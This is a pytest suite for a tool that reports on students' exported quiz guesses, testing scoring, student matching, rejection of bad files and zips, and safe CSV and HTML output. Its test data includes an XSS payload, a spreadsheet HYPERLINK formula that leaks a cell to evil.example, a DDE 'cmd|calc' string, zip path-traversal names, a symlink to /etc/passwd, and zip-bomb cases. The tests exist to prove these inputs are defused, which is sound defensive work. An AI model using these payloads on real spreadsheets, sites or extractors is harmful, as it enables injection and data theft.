"""The report on a class: whose guesses count, what is counted, what is left out, and what the page shows of it."""

import csv
import errno
import io
import json
import os
import random
import re
import shutil
import stat
import struct
import subprocess
import sys
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from axe import violations
from places import ROOT
from time_class_report import student_file
from watching import watch

from book_utils.__main__ import main
from book_utils.asking.questions import BOOK, CHAPTERS
from book_utils.asking.record import MOST_BYTES
from book_utils.asking.score import score
from book_utils.classroom import class_report, hand_ins, whole_folder
from book_utils.classroom.answers import answered, fitted, questions_of_the_book
from book_utils.classroom.change import Change
from book_utils.classroom.counts import Tally, advice_of
from book_utils.classroom.page import moves_of, separation_text
from book_utils.classroom.reading import Reader
from book_utils.classroom.store import sendable
from book_utils.classroom.tables import defused

try:
    import resource
except ImportError:  # Windows
    resource = None

QUESTIONS = questions_of_the_book()
BY_NAME = {question.name: question for question in QUESTIONS}
HURT = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'`=cmd|calc'
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def guess_of(name, guess, at="2026-11-20T09:00:00.000Z", **more):
    question = BY_NAME[name]
    return {"chapter": question.chapter, "name": name, "digest": question.digest, "at": at, "guess": guess, **more}


def file_of(*guesses, saved="2026-11-22T18:00:00.000Z", **more):
    held = {"guesses": list(guesses), "cards": []}
    return {"format": "guesses", "version": 1, "book": BOOK, "saved": saved} | held | more


def write(folder: Path, name: str, data) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
    return path


def rows_of(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def report(tmp_path):
    """A function that makes a report on files, {name: contents}, and reads it back."""

    def make(files: dict, **options):
        for name, data in files.items():
            write(tmp_path / "in", name, data)
        summary = class_report([tmp_path / "in"], tmp_path / "out", **options)
        summary.rows = rows_of(tmp_path / "out" / "guesses.csv")
        summary.why = [(row["file"].removeprefix(f"{tmp_path.as_posix()}/in/"), row["left_out"], row["why"])
                       for row in rows_of(tmp_path / "out" / "left-out.csv")]
        summary.html = summary.page.read_text(encoding="utf-8")
        return summary

    return make


@pytest.fixture(scope="module")
def class_page(tmp_path_factory):
    """The report on thirty students, with hostile names and texts among them, and own words shown."""
    folder = tmp_path_factory.mktemp("class")
    for number in range(30):
        data = student_file(number, QUESTIONS)
        if number % 3 == 0:
            for entry in data["guesses"]:
                if entry["guess"] and BY_NAME[entry["name"]].kind == "words":
                    entry["guess"] = HURT
        write(folder / "in", f"{number} {HURT.replace('/', '')}.json", data)
    write(folder / "in", f"{FORMULA.replace('/', '')}.json", b"no json")
    return class_report([folder / "in"], folder / "out", words=True)


# -- what is counted -------------------------------------------------------------------------------


def test_the_order_is_that_of_the_book():
    pages = re.findall(r"file: chapters/(\S+)", (ROOT / "_toc.yml").read_text(encoding="utf-8"))
    chapters = list(dict.fromkeys(question.chapter for question in QUESTIONS))
    assert chapters == [page for page in pages if page in chapters] and set(chapters) == set(CHAPTERS)


def change_of(pairs):
    before, after = [sum(side) for side in zip(*pairs, strict=True)] or [0, 0]
    return Change(len(pairs), before, after, pairs.count((False, True)), pairs.count((True, False)))


def test_counts_are_those_of_a_plain_loop():
    chance, tallies = random.Random(1), [Tally(question) for question in QUESTIONS]
    students = [student_file(seed, QUESTIONS)["guesses"] for seed in range(60)]
    for tally in tallies:
        mine = [entry for entries in students for entry in entries if entry["name"] == tally.question.name]
        for entry in chance.sample(mine, len(mine)):
            tally.add(answered(entry))
        made = [entry for entry in mine if entry["guess"] is not None]
        assert (tally.made, tally.skipped) == (len(made), sum(entry["skipped"] for entry in mine))
        question = tally.question
        if question.kind == "words":
            assert tally.ratings == Counter(entry["rating"] for entry in made) and tally.texts == []
            continue
        rights = [score(question.kind, question.answer, entry["guess"], question.scale) for entry in made]
        sure = [right for entry, right in zip(made, rights, strict=True) if entry["confidence"] == "sure"]
        assert (tally.right, tally.sure_wrong) == (sum(rights), sure.count(False))
        assert tally.by_confidence["sure"] == [len(sure), sum(sure)]
        lasts = [entry["guess"] if entry["second"] is None else entry["second"] for entry in made]
        afters = [score(question.kind, question.answer, last, question.scale) for last in lasts]
        assert tally.second == change_of(list(zip(rights, afters, strict=True)))
        later = [(right, entry["reviews"][-1][1] == "knew")
                 for entry, right in zip(made, rights, strict=True) if entry["reviews"]]
        assert tally.recall == change_of(later)
        if question.kind == "choice":
            assert {text: sum(counts.values()) for text, counts in tally.values.items()} == \
                Counter(entry["guess"] for entry in made)
        elif question.scale.get("by") == "ratio":
            near = sum(sum(tally.spread[step]) for step in range(-2, 2))
            assert near == sum(rights) == sum(right for right, _ in tally.spread.values())


@pytest.mark.parametrize("before, after, gain", [(4, 7, 0.5), (5, 5, 0.0), (5, 3, -0.4), (0, 10, 1.0), (10, 10, None)])
def test_normalised_gain(before, after, gain):
    assert Change(10, before, after).gain == gain


def test_the_marks():
    assert [advice_of(share) for share in (0, 0.349, 0.35, 0.5, 0.7, 0.701, 1)] == \
        ["explain", "explain", "discuss", "discuss", "discuss", "move on", "move on"]
    tally = Tally(BY_NAME["quiz-rows"], made=4, right=4)
    assert tally.share is None and tally.advice == ""  # four are too few
    five = Tally(BY_NAME["quiz-rows"], made=5, right=5)
    assert (five.share, five.advice) == (1, "move on")


def test_moves_come_by_how_many_made_them_and_then_by_their_words():
    asked = next(question for question in QUESTIONS if question.kind == "choice")
    right = asked.answer
    moves = {("z", right): 2, (right, "b"): 2, ("a", "a"): 5, ("a", "z"): 2}
    told = moves_of(Tally(asked, made=20, changed=11, moves=Counter(moves)))
    ties = sorted(move for move, many in moves.items() if many == 2)
    tick = {right: f"{right} ✓"}
    assert told == ["5: thought again, and stayed with a", *(
        f"2: from {tick.get(first, first)} to {tick.get(second, second)}" for first, second in ties),
        "9: had no second thought"]


def test_a_question_that_separates_nobody_says_zero():
    for separates, said in [(0.0, "0.00"), (-0.006, "-0.01"), (0.005, "+0.01"), (0.0049, "0.00"), (-1.0, "-1.00")]:
        tally = Tally(BY_NAME["quiz-rows"], separates=separates, told_of=20)
        assert separation_text(tally) == f"Separates: {said} (20 students)."
    assert Tally(BY_NAME["quiz-rows"], separates=0.5, told_of=19).separation is None


def test_numbers_of_any_size_find_a_place():
    for question in QUESTIONS:
        if question.kind == "number":
            tally = Tally(question)
            guesses = (0, -1, 1e308, -1e308, 5e-324, 10**308, question.answer)
            for guess in guesses:
                tally.add(answered({"at": "", "guess": guess, "confidence": "sure"}))
            held = tally.spread if tally.spread else {text: [sum(by.values()), 0] for text, by in tally.values.items()}
            assert sum(map(sum, held.values())) == tally.made == len(guesses)
            assert tally.right == sum(question.right(guess) for guess in guesses) >= 1


def test_many_different_answers_stay_few(monkeypatch):
    monkeypatch.setattr("book_utils.classroom.counts.MOST_DIFFERENT", 3)
    tally = Tally(BY_NAME["quiz-rows"])
    for guess in range(100):
        tally.add(answered({"at": "", "guess": guess, "confidence": "sure"}))
    assert (len(tally.values), tally.others, tally.made, tally.right) == (3, 97, 100, 1)


def test_right_is_never_taken_from_the_file(report):
    made = report({"a.json": file_of(guess_of("quiz-rows", 999, right=True, correct=True, answer=999))})
    assert [(row["first_guess"], row["right"]) for row in made.rows] == [("999", "no")]


# -- whose guesses ---------------------------------------------------------------------------------

MONDAY = [guess_of("quiz-rows", 3, "2026-11-16T09:00:00.111Z"),
          guess_of("qwen3-6-32-pairs-base-10-million", 5, "2026-11-16T09:01:00.222Z")]
FRIDAY = [*MONDAY, guess_of("twentieth-step", "much less far", "2026-11-20T09:00:00.333Z")]
AGAIN = [guess_of("quiz-rows", 4, "2026-11-19T09:00:00.444Z", second=5)]  # another browser, later
MOODLE, CANVAS = "Ann Lee_77_assignsubmission_file_", "leeann_4711_998877"


@pytest.mark.parametrize("files, students, kept", [
    ({"a.json": file_of(*MONDAY), "b.json": file_of(*FRIDAY)}, 1, 3),  # the same moments
    ({"a.json": file_of(*MONDAY), "b.json": file_of(*MONDAY, saved="2026-11-23T00:00:00Z")}, 1, 2),  # the same content
    ({"a.json": file_of(MONDAY[0]), "b.json": file_of(MONDAY[0])}, 1, 1),
    ({"a.json": file_of(MONDAY[0]), "b.json": file_of(*FRIDAY)}, 2, 4),  # one moment may be an accident
    ({f"{MOODLE}a.json": file_of(*MONDAY), f"{MOODLE}b.json": file_of(*AGAIN)}, 1, 2),
    ({f"{MOODLE}/a.json": file_of(*MONDAY), f"{MOODLE}/b.json": file_of(*AGAIN)}, 1, 2),
    ({f"{CANVAS}_a.json": file_of(*MONDAY), "leeann_LATE_4711_555555_a.json": file_of(*AGAIN)}, 1, 2),
    ({f"{CANVAS}_a.json": file_of(*MONDAY), "leeann_4712_555555_a.json": file_of(*AGAIN)}, 2, 3),  # of the same name
    ({"guesses_20261116_093000_ann.json": file_of(*MONDAY), "guesses_20261116_093000_bo.json": file_of(*AGAIN)}, 2, 3),
    ({f"{MOODLE}a.json": file_of(*MONDAY), "Bo Li_78_assignsubmission_file_a.json": file_of(*MONDAY)}, 2, 4),  # a copy
    ({f"{MOODLE}a.json": file_of(*MONDAY), "loose.json": file_of(*FRIDAY)}, 1, 3),
    # A name inside of a student's own zip is the student's word; and a zip without a platform's name speaks for itself.
    ({f"{CANVAS}_a.json": file_of(*MONDAY), "libo_4712_555555_my.zip": {f"{CANVAS}_a.json": file_of(*AGAIN)}}, 2, 3),
    ({f"{MOODLE}a.json": file_of(*MONDAY),
      "Bo Li_78_assignsubmission_file_/my.zip": {f"{MOODLE}/a.json": file_of(*AGAIN)}}, 2, 3),
    ({f"{MOODLE}a.json": file_of(*MONDAY), "mine.zip": {f"{MOODLE}a.json": file_of(*AGAIN)}}, 2, 3),
    ({f"{MOODLE}a.json": file_of(*MONDAY), f"Bo Li_78_assignsubmission_file_{MOODLE}a.json": file_of(*AGAIN)}, 2, 3),
    ({"all.zip": {f"{MOODLE}/a.json": file_of(*MONDAY), f"{MOODLE}/b.json": file_of(*AGAIN)}}, 1, 2),
    ({"1.zip": {f"{MOODLE}/a.json": file_of(*MONDAY)}, "2.zip": {f"{MOODLE}/a.json": file_of(*FRIDAY)}}, 1, 3),
    ({"Zo\u00eb_1_assignsubmission_file_a.json": file_of(*MONDAY),
      "Zoe\u0308_1_assignsubmission_file_b.json": file_of(*AGAIN)}, 1, 2),  # one name, written in two ways
])
def test_who_is_the_same_student(report, files, students, kept):
    made = report({name: zip_of(data) if name.endswith(".zip") else data for name, data in files.items()})
    assert made.students == students and len(made.rows) == kept


def test_the_newest_export_and_the_earliest_first_guess(report):
    newest = file_of(*AGAIN, saved="2026-11-22T20:00:00Z")
    made = report({f"{MOODLE}1.json": newest, f"{MOODLE}2.json": file_of(*FRIDAY)})
    row = next(row for row in made.rows if row["name"] == "quiz-rows")
    assert (row["first_guess"], row["second_thought"], row["at"]) == ("3", "5", "2026-11-16T09:00:00Z")


def test_a_copied_file_is_said(report):
    made = report({f"{MOODLE}a.json": file_of(*MONDAY), "Bo Li_78_assignsubmission_file_a.json": file_of(*MONDAY)})
    assert [(part, "another student" in why) for _, part, why in made.why] == [("nothing", True)]


def test_ids_say_nothing_about_names(report, tmp_path):
    files = {f"{chr(97 + number)}.json": student_file(number, QUESTIONS) for number in range(20)}
    made = report(files, names=True)
    order = list(dict.fromkeys(row["files"] for row in made.rows))
    assert len(order) == 20 and order != sorted(order)
    before = [row["first_guess"] for row in made.rows]
    for name in files:
        (tmp_path / "in" / name).rename(tmp_path / "in" / f"{ord('z') - ord(name[0])}.json")
    assert [row["first_guess"] for row in report({}).rows] == before  # other names, the same order


def test_no_name_by_default(report):
    made = report({"Ann Secret_77_assignsubmission_file_a.json": file_of(
        guess_of("explain-lookup", "I am Ann Secret", second="Ann Secret again"), guess_of("quiz-rows", 3)),
        "Ann Secret.json": b"no json"})
    assert "Secret" not in made.html and not any("Secret" in value for row in made.rows for value in row.values())
    assert made.why[0][0] == "Ann Secret.json"  # for the teacher alone
    assert "2026-11-2" not in made.html  # nor a time that could tell who it was


def test_names_and_words_when_asked_for(report):
    made = report({"Ann.json": file_of(guess_of("explain-lookup", "It looks up a row."))}, names=True, words=True)
    assert made.rows[0]["files"].endswith("Ann.json") and made.rows[0]["first_guess"] == "It looks up a row."
    assert "It looks up a row." in made.html and "Ann" not in made.html


# -- what is left out ------------------------------------------------------------------------------

GOOD = file_of(guess_of("quiz-rows", 4))


@pytest.mark.parametrize("name, data, sentence", [
    ("a.json", b"", "not JSON"), ("a.json", b"[" * 100_000, "nested too deeply"),
    ("a.json", b" " * (MOST_BYTES + 1), "larger than 5 MB"), ("a.json", file_of(book="other"), "another book"),
    ("a.json", file_of(version=7), "later edition"), ("a.json", file_of(), "no guess that this edition"),
    ("a.txt", GOOD, "does not end in .json"), ("thesis.docx", b"PK\3\4", "does not end in .json"),
    ("a.zip", b"no zip", "The zip is damaged"), ("a.zip", b"", "The zip is damaged"),
    ("a.zip", b"PK\5\6" + b"\xff" * 18, "lists too many files"),
    ("日本語 ‮ 😀 é.json", b"{", "not JSON"),
])
def test_a_bad_file_gets_a_sentence_and_the_rest_goes_on(report, name, data, sentence):
    made = report({name: data, "good.json": GOOD})
    assert (made.students, made.files, made.left_out) == (1, 1, 1)
    [(_, part, why)] = made.why
    assert part == "the whole file" and sentence in why and why.endswith(".") and sentence in made.html


def test_entries_that_are_left_out(report):
    old = guess_of("rows-tied", "5 both times") | {"digest": "0" * 12}
    unknown = guess_of("rows-tied", "5 both times") | {"name": HURT.replace("/", "")}
    absurd = [guess_of("twentieth-step", "maybe"), guess_of("where-is-queen", [1]), guess_of("frozen-and-it-moves", []),
              guess_of("five-token-ids-go-into-a-table", [-1, 2]), guess_of("explain-rope", " "),
              guess_of("quiz-rows", "4"), guess_of("frozen-and-it-moves", [1.5]),
              guess_of("rank-them-by-the-share-of-all", ["GPT-2"] * 4)]
    typed = "nonsense: all that it learned depended on the old numbers"
    twice = [guess_of("quiz-new-names", typed, "2026-11-21T09:00:00Z"),
             guess_of("quiz-new-names", "what it did before")]
    made = report({"a.json": file_of(guess_of("quiz-rows", 4), old, unknown, *absurd, *twice, 7, {"at": 1})})
    assert {why: part for _, part, why in made.why} == {
        "They are damaged.": "2 guesses", "They answer a question that this edition does not ask.": "2 guesses",
        "The page could not have given such an answer.": "8 guesses",
        "They stand twice in the file; the earliest counts.": "1 guess"}
    assert {row["name"]: row["first_guess"] for row in made.rows} == {
        "quiz-rows": "4", "quiz-new-names": "what it did before"}


@pytest.mark.parametrize("at", ["1970-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-02-31T25:00:00Z"])
def test_a_wrong_clock_loses_no_guess(report, at):
    made = report({"a.json": file_of(guess_of("quiz-rows", 3, at), saved=at)})
    assert [(row["first_guess"], row["at"]) for row in made.rows] == [("3", "")]


@pytest.mark.parametrize("at, kept", [
    ("2026-11-20T09:00:00Z", "2026-11-20T09:00:00.000000Z"), ("2026-11-20T09:00:00.5Z", "2026-11-20T09:00:00.500000Z"),
    ("2026-11-20T09:00:00.120+00:00", "2026-11-20T09:00:00.120000Z"),
    ("2026-11-20T09:00:00.000001Z", "2026-11-20T09:00:00.000001Z"),
    ("2026-11-20T23:59:59+00:00", "2026-11-20T23:59:59.000000Z"),
    ("2020-01-01T00:00:00Z", "2020-01-01T00:00:00.000000Z"),
    ("2026-11-20T23:59:60Z", ""), ("2026-11-20T23:59:65Z", ""), ("2026-11-20T23:60:00Z", ""),
    ("2026-11-20T24:00:01Z", ""), ("2026-11-20T25:00:00Z", ""), ("2026-02-30T09:00:00Z", ""),
    ("2019-12-31T23:59:59Z", ""), ("2999-01-01T00:00:00Z", ""), ("2026-11-20T23:69:00.5Z", "")])
def test_a_moment_is_kept_to_its_last_digit_and_one_that_cannot_be_is_not(at, kept):
    """The second time as the first, when its day is known."""
    reader = Reader(QUESTIONS)
    for day in ("2026-11-20T10:00:00Z", at):
        read = [reader.read(json.dumps(file_of(guess_of("quiz-rows", 3, at=one))).encode()) for one in (day, at)]
        assert [[one.at for one in entries.values()] for _, entries, _ in read][1] == [kept]


def test_folders_links_and_odd_files(report, tmp_path):
    folder = tmp_path / "in"
    write(folder, "deep.json/inside.json", GOOD)  # a folder that is called like a file
    write(tmp_path, "outside.json", file_of(guess_of("quiz-rows", 5)))
    (folder / "link.json").symlink_to(tmp_path / "outside.json")
    (folder / "loop").symlink_to(folder)
    (folder / "nowhere.json").symlink_to("/nowhere")
    os.mkfifo(folder / "pipe.json")
    (folder / os.fsdecode(b"\xff\xfe.json")).write_bytes(b"{")
    made = report({})
    assert [row["first_guess"] for row in made.rows] == ["4"]
    assert Counter(why for *_, why in made.why) == {
        "It is a link.": 3, "It is no ordinary file.": 1, "It is not JSON.": 1}


def test_what_cannot_be_read(report, tmp_path, monkeypatch):
    secret = write(tmp_path / "in", "secret.json", GOOD)
    secret.chmod(0)
    real = open

    def locked(path, *arguments, **options):  # root may read everything, so the refusal is played
        if Path(path).name == "secret.json":
            raise PermissionError(13, "Permission denied")
        return real(path, *arguments, **options)

    monkeypatch.setattr(hand_ins, "open", locked, raising=False)
    made = report({"good.json": GOOD})
    assert made.students == 1 and made.why[0][2] == "It cannot be read (permission denied)."


@pytest.mark.parametrize("wrong", ["nowhere", "a\0b", "x" * 5000, "good.json/in", "empty", "text"])
def test_a_slip_in_the_path_erases_nothing(report, tmp_path, wrong, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty").mkdir()
    write(tmp_path, "text/thesis.txt", b"")
    made = report({"good.json": GOOD})
    for paths in ([wrong], [wrong, "in"]) if wrong not in ("empty", "text") else ([wrong],):
        with pytest.raises(ValueError, match="nothing was written") as problem:
            class_report(paths, tmp_path / "out")
        assert len(str(problem.value)) < 400 and "\0" not in str(problem.value)
        assert made.page.read_text(encoding="utf-8") == made.html and rows_of(tmp_path / "out" / "guesses.csv")
    with pytest.raises(ValueError):
        class_report([wrong], tmp_path / "new")
    assert not (tmp_path / "new").exists()


def test_folders_too_deep_and_files_too_many(report, monkeypatch):
    """What is just allowed is read, one more is not."""
    deep = "/".join(map(str, range(40)))
    made = report({f"{deep}/a.json": GOOD, f"{deep}/more/b.json": GOOD})
    assert made.students == 1 and made.why == [(f"{deep}/more", "the whole file", "It lies more than 40 folders deep.")]
    monkeypatch.setattr(hand_ins, "MOST_FILES", made.files + 3)
    assert report({f"{number}.json": GOOD for number in range(2)}).why == made.why
    assert report({"2.json": GOOD}).why[-1][2] == "Here the reading stopped: there are more than 4 files."


@pytest.mark.parametrize("letters", [300, 301])
def test_a_name_of_any_length_is_told(letters):
    shown = sendable("".join(map(chr, range(1000, 1000 + letters))))
    assert len(shown) == 300 and (shown[147:151] == "".join(map(chr, range(1147, 1151)))) is (letters == 300)
    assert (shown[0], shown[-1]) == (chr(1000), chr(999 + letters))


def entry_in_a_zip(name="a.json", size=0, packed=0, flags=0):
    entry = zipfile.ZipInfo(name)
    entry.compress_type, entry.flag_bits = zipfile.ZIP_DEFLATED, flags
    entry.file_size, entry.compress_size = size, packed
    return entry


def test_what_a_zip_may_just_hold():
    """At each limit, and one beyond it."""
    for good in (entry_in_a_zip(size=100_000), entry_in_a_zip(size=200_000, packed=1000),
                 entry_in_a_zip("a..b/c:d.json"), entry_in_a_zip(flags=2)):
        hand_ins._check_entry(good)
    for bad in (entry_in_a_zip(size=100_001), entry_in_a_zip(size=200_001, packed=1000), entry_in_a_zip("a:b/c.json"),
                entry_in_a_zip("a/../b.json"), entry_in_a_zip(flags=1), entry_in_a_zip("a.JSON.zip")):
        with pytest.raises(hand_ins.LeftOut):
            hand_ins._check_entry(bad)


@pytest.mark.parametrize("list_bytes, holes, sentence", [
    (None, 0, ""), (None, 10**9 - 1, ""), (None, 10**9, "larger than 1 GB"), (8_000_001, 0, "lists too many files"),
    (8_000_000, 0, "is damaged"),  # it may be so long, but is not
])
def test_how_much_a_zip_may_list(tmp_path, list_bytes, holes, sentence):
    data = bytearray(zip_of({"a.json": GOOD}))
    if list_bytes:
        struct.pack_into("<L", data, data.rindex(b"PK\5\6") + 12, list_bytes)
    path = tmp_path / "a.zip"
    with open(path, "wb") as file:
        file.seek(holes and holes + 1 - len(data))  # a hole takes no room on the disk
        file.write(data)
    [found] = hand_ins.hand_ins([path])
    assert sentence in found.why and (found.raw is None) == bool(sentence)


def test_many_files(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for number in range(3000):
        (folder / f"{number}.txt").touch()
    write(folder, "good.json", GOOD)
    summary = class_report([folder], tmp_path / "out")
    assert (summary.students, summary.left_out) == (1, 3000)
    assert "3,000 files: " in summary.page.read_text(encoding="utf-8")


# -- zips ------------------------------------------------------------------------------------------


def zip_of(entries: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of {name or ZipInfo: contents}."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data if isinstance(data, bytes) else json.dumps(data), method)
    return held.getvalue()


def linked(name):
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def test_a_zip_of_a_platform(report):
    made = report({"all.zip": zip_of({
        f"{MOODLE}/my-guesses.json": file_of(*MONDAY), f"{MOODLE}/newer.json": file_of(*FRIDAY),
        "Bo Li_78_assignsubmission_file_/mine.JSON": file_of(*AGAIN), "Bo Li_78_assignsubmission_file_/": b""})})
    assert (made.students, made.files, made.left_out, len(made.rows)) == (2, 3, 0, 4)


@pytest.mark.parametrize("name, data, sentence", [
    ("../up.json", GOOD, "leads out"), ("/etc/up.json", GOOD, "leads out"), ("C:\\up.json", GOOD, "leads out"),
    ("a\\..\\..\\up.json", GOOD, "leads out"), ("a/../../up.json", GOOD, "leads out"),
    (linked("l.json"), b"/etc/passwd", "a link"),
    ("in.zip", zip_of({"a.json": GOOD}), "a zip inside a zip"), ("a.txt", GOOD, "does not end in .json"),
    ("big.json", b"[" + b" " * 4_000_000 + b"]", "would grow more than 200-fold"), ("a.json", b"{", "not JSON"),
], ids=lambda value: value if isinstance(value, str) else "")
def test_what_a_zip_may_not_hold(report, tmp_path, name, data, sentence):
    made = report({"all.zip": zip_of({name: data, "good.json": GOOD})})
    assert made.students == 1 and [sentence in why for *_, why in made.why] == [True]
    assert sorted(os.listdir(tmp_path)) == ["in", "out"] and os.listdir(tmp_path / "in") == ["all.zip"]


def test_zips_that_lie(report):
    stored = zip_of({"a.json": GOOD, "good.json": GOOD}, zipfile.ZIP_STORED)
    damaged = stored.replace(b'"guess": 4', b'"guess": 5', 1)  # the sum of the first file does not fit any more
    locked = bytearray(stored)
    locked[locked.index(b"PK\1\2") + 8] |= 1
    bzip = zip_of({"a.json": GOOD}, zipfile.ZIP_BZIP2)
    packed = zip_of({"a.json": json.dumps(GOOD).encode() + b" " * 150_000})
    shrunk = bytearray(packed)  # says that it is small when unpacked
    struct.pack_into("<L", shrunk, shrunk.index(b"PK\1\2") + 24, 100)
    zips = [damaged, bytes(locked), bzip, bytes(shrunk), stored[:-30]]
    made = report({f"{number}.zip": data for number, data in enumerate(zips, 1)})
    assert [(name[:5], why.split()[-1]) for name, _, why in made.why] == [
        ("1.zip", "damaged."), ("2.zip", "password."), ("3.zip", "use."), ("4.zip", "damaged."), ("5.zip", "damaged.")]
    assert made.students == 1


def test_a_mutated_zip_never_stops_the_rest(report):
    """Bytes of the list and of the entries changed, cut and doubled; a name that is a NUL byte among them."""
    nul = zip_of({"a.json": GOOD, "b.json": GOOD}).replace(b"a.json", b"\0.json")
    first = bytearray(zip_of({"a": GOOD}))
    first[first.index(b"PK\3\4") + 30] = first[first.index(b"PK\1\2") + 46] = 0  # the name is NUL, and so empty
    files = {"n.zip": nul, "e.zip": first}
    whole = zip_of({"a.json": GOOD, "b/": b"", "c.json": student_file(1, QUESTIONS)})
    for seed in range(300):
        chance, data = random.Random(seed), bytearray(whole)
        for _ in range(chance.randint(1, 6)):
            part = chance.choice([0, whole.rindex(b"PK\1\2"), whole.index(b"PK\1\2"), len(whole) - 22])
            place = min(part + chance.randrange(60), len(data) - 1)
            data[place] = chance.choice([0, 1, 47, 255, chance.randrange(256)])
        files[f"{seed}.zip"] = bytes(data[:chance.choice([len(data)] * 5 + [chance.randrange(len(data))])])
    made = report({name: bytes(data) for name, data in files.items()} | {
        "zz.json": file_of(guess_of("rows-tied", "5 both times"))})
    assert "rows-tied" in {row["name"] for row in made.rows} and made.files > 50 and made.left_out > 50


def test_the_sum_of_a_zip_is_limited(report, monkeypatch):
    monkeypatch.setattr(hand_ins, "MOST_UNPACKED", 3 * len(json.dumps(GOOD)))
    made = report({"a.zip": zip_of({f"{number}.json": GOOD for number in range(9)})})
    assert (made.files, made.left_out) == (3, 6)


def test_zips_with_a_comment(report):
    """The comment stands behind the last record; it may hold what looks like one."""
    files = {}
    for number, comment in enumerate([b"a comment", b"x" * 60_000, b"PK\5\6 and more", b"ends in zeros\0\0"]):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as archive:
            archive.writestr("a.json", json.dumps(file_of(guess_of("quiz-rows", 4, f"2026-11-2{number}T09:00:00Z"))))
            archive.comment = comment
        files[f"{number}.zip"] = held.getvalue()
    made = report(files)
    assert (made.students, [why for *_, why in made.why]) == (3, ["The zip is damaged."])  # zipfile refuses the third


def test_a_zip_with_a_list_in_64_bits_or_too_large(report, monkeypatch):
    data = zip_of({"a.json": GOOD})
    last = data.rindex(b"PK\5\6")
    in_64 = data[:last] + b"PK\6\7" + bytes(16) + data[last:]
    monkeypatch.setattr(hand_ins, "MOST_ZIP_BYTES", 5000)
    made = report({"a.zip": in_64, "b.zip": data + bytes(6000), "c.json": GOOD})
    assert ["too many files" in made.why[0][2], "larger than" in made.why[1][2]] == [True, True]


# -- the files of the report -----------------------------------------------------------------------


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("@SUM(1)", "'@SUM(1)"), ("-1+1", "'-1+1"), ("\t=1", "\t'=1"),
    ("  =1", "  '=1"), ("a;=1+1", "a;'=1+1"), ('a; "=1"', "a; \"'=1\""), ("a\n\n-1+1", "a\n\n'-1+1"), ("a;b", "a;b"),
    ("＝1", "'＝1"), ("\ufeff=1", "\ufeff'=1"), ("\u200c\xad=1", "\u200c\xad'=1"),
    ("-0.5", "-0.5"), ("-1e-05", "-1e-05"), ("1,024", "1,024"),
    ("cat", "cat"),
    ("a\x00b\u202ec", "a�b�c"), ("", ""),
])
def test_spreadsheets_run_nothing(text, expected):
    assert defused(text) == expected


def test_own_words_cannot_start_a_formula(report):
    made = report({f"{FORMULA.replace('/', '')}.json": file_of(guess_of("explain-lookup", FORMULA)), "=1+1.json": b""},
                  words=True, names=True)
    assert made.rows[0]["first_guess"] == f"'{FORMULA}"
    assert formulas(made.page.parent / "guesses.csv") == []


def formulas(path: Path) -> list[str]:
    """List the cells that start a formula for a spreadsheet of any country, with commas, semicolons or tabs."""
    found = []
    for between in ",;\t":
        with open(path, encoding="utf-8-sig", newline="") as file:
            cells = [cell.strip() for row in csv.reader(file, delimiter=between) for cell in row]
        found += [cell for cell in cells if cell.startswith(tuple("=+-@|%＝＋－＠"))]
    return [cell for cell in found if not re.fullmatch(r"-?[\d.,e-]+", cell)]


def test_no_formula_in_any_country(report):
    chance = random.Random(3)
    pieces = ["=1+1", "-1+1", "+cmd|' /C calc'!A0", "@SUM(1)", ";", ";;", '"', '""', "\t", "\n", "\r\n", ",", " ", "a",
              "'", "\ufeff", "＝1", "\xa0", "-0.5", "\u2028", "\x0b"]
    files = {}
    for number in range(400):
        text = "".join(chance.choices(pieces, k=chance.randint(1, 7)))
        files[f"{number}.json"] = file_of(guess_of("explain-lookup", text, f"2026-11-20T09:00:{number % 60:02}Z"))
        files["x" + text.replace("/", "") + f"{number}.json"] = b"{"
    made = report(files, words=True, names=True)
    folder = made.page.parent
    assert len(made.rows) > 350 and [formulas(folder / name) for name in ("guesses.csv", "left-out.csv")] == [[], []]


def test_a_second_run_changes_nothing(report):
    files = {f"{number}.json": student_file(number, QUESTIONS) for number in range(6)}
    first = report(files | {"bad.json": b""})
    before = {path.name: path.read_bytes() for path in first.page.parent.iterdir()}
    report({})
    assert {path.name: path.read_bytes() for path in first.page.parent.iterdir()} == before
    assert set(before) == {"index.html", "guesses.csv", "left-out.csv"}


@pytest.mark.parametrize("name", ["index.html", "guesses.csv", "left-out.csv"])
def test_never_replaces_what_is_not_ours(tmp_path, name, capsys):
    write(tmp_path, "good.json", GOOD)
    mine = write(tmp_path / "out", name, b"<!DOCTYPE html>\nmy thesis")
    write(tmp_path / "out", "notes.txt", b"notes")
    assert main(["class", str(tmp_path / "good.json"), "-o", str(tmp_path / "out")]) == 1
    assert "give another folder" in capsys.readouterr().err
    assert mine.read_bytes().endswith(b"my thesis") and sorted(os.listdir(mine.parent)) == sorted([name, "notes.txt"])


def test_a_folder_with_anything_else_is_left_alone(report, tmp_path):
    write(tmp_path / "out", "notes.txt", b"notes")
    with pytest.raises(ValueError, match="holds other files, such as notes.txt"):
        report({"a.json": GOOD})
    assert (tmp_path / "out" / "notes.txt").read_bytes() == b"notes" and os.listdir(tmp_path / "out") == ["notes.txt"]


@pytest.mark.skipif(os.name == "nt", reason="there nobody can ask whether a process is at work")
def test_what_a_killed_report_left_is_swept_and_what_one_at_work_or_somebody_else_has_is_not(report, tmp_path):
    with subprocess.Popen([sys.executable, "-c", ""]) as ended:
        pass
    swept, kept = f".out.{ended.pid}.part", (f".out.{os.getppid()}.part", ".out.notes.part", ".other.1.part")
    for name in (swept, *kept):
        (tmp_path / name).mkdir()
    report({"a.json": GOOD})
